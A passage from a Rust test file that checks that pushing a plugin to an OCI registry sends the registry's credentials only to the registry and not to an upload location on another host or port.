    let ws = Workspace::new().plugin("fixture_probe", "probe");
    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
    let out = ws.cordon_with_env(
        &[
            "push",
            "probe",
            &format!("oci://{}/published/probe:1", registry.addr),
        ],
        &[("DOCKER_CONFIG", docker.as_str())],
    );
    (registry.requests(), elsewhere.requests(), out.stderr)
}

#[test]
fn push_sends_no_credentials_to_an_upload_location_on_another_port_or_host() {
    // The registry answers the upload POST with a Location on another host:port: the component's
    // bytes may go there (it is where the registry stores them), the registry's password may not.
    for other in ["127.0.0.1:0", "127.0.0.2:0"] {
        let (registry, elsewhere, stderr) = push_with_upload_location(other);
        assert!(
            carried(&registry, "alice", "alice-pw-123"),
            "the registry itself gets the credentials: {stderr}"
        );
        assert!(
            elsewhere.iter().any(|r| r.method == "PUT"),
            "the upload went to the Location ({other}): {stderr}"
        );
        assert!(
            elsewhere
                .iter()
                .all(|r| r.header("authorization").is_none()),
            "the upload Location on {other} was sent Authorization: {:?}",
            elsewhere
                .iter()
                .map(|r| r.header("authorization"))
                .collect::<Vec<_>>()
        );
    }
}
